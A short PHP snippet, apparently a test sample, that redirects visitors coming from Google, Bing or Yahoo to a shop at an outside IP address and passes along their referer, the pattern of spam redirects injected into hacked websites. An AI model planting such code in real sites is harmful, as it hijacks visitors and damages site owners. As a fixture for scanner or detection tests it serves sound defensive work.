<?php
// visitors from search engines sent elsewhere (written for the tests, never run)
$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
if (preg_match('/google\.|bing\.|yahoo\./i', $ref)) {
    header('Location: http://203.0.113.9/shop/?q=' . urlencode($ref));
    exit;
}
